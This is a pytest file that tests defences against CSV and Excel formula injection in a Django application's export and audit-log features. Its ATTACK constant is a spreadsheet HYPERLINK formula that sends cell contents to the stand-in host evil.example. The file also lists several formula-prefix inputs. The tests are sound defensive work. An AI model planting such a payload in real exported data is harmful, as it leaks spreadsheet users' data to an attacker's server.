"""Every CSV and Excel file goes through core.exports: a cell that starts with = + - @ (or a tab
or carriage return) is plain text, never a formula."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from accounts.models import Department
from audit.context import Channel, acting_as, channel
from core import exports

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
PREFIXED = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def formulas_in(xlsx: bytes) -> list[str]:
    """The <f> elements of every sheet: what Excel would run."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def cells(xlsx: bytes) -> list:
    wb = load_workbook(io.BytesIO(xlsx))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def text_cell(xlsx: bytes, value: str):
    (cell,) = [c for c in cells(xlsx) if c.value == value]
    return cell


@pytest.mark.parametrize("value", PREFIXED + [ATTACK])
def test_csv_cell_is_text(value):
    assert exports.csv_cell(value) == "'" + value
    assert exports.csv_cell(12) == "12" and exports.csv_cell(-3) == "-3"


def test_workbooks_never_hold_formulas():
    content = exports.xlsx_bytes([("表", ["标题", "数"], [[v, -1] for v in PREFIXED + [ATTACK]])])
    assert formulas_in(content) == []
    cell = text_cell(content, ATTACK)
    assert cell.data_type == "s"
    assert [c.value for c in cells(content) if c.data_type == "n"] == [-1] * 7


def test_write_only_workbooks_never_hold_formulas():
    wb = exports.new_workbook(write_only=True)
    ws = wb.create_sheet("x")
    exports.append_row(ws, [ATTACK, 3])
    buf = io.BytesIO()
    wb.save(buf)
    assert formulas_in(buf.getvalue()) == []
    assert text_cell(buf.getvalue(), ATTACK).data_type == "s"


@pytest.fixture
def attack_logged(administrator):
    with acting_as(administrator), channel(Channel.ADMIN):
        Department.objects.create(name=ATTACK, code="evil")


def test_audit_csv_writes_the_title_as_text(client_for, auditor, attack_logged):
    response = client_for(auditor).get("/audit/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    record = [row for row in rows if ATTACK in "".join(row)]
    assert record and "'" + ATTACK in record[0]
    assert ATTACK not in record[0]


def test_audit_xlsx_writes_the_title_as_text(client_for, auditor, attack_logged):
    response = client_for(auditor).get("/audit/export.xlsx")
    content = b"".join(response.streaming_content)
    assert formulas_in(content) == []
    assert text_cell(content, ATTACK).data_type == "s"
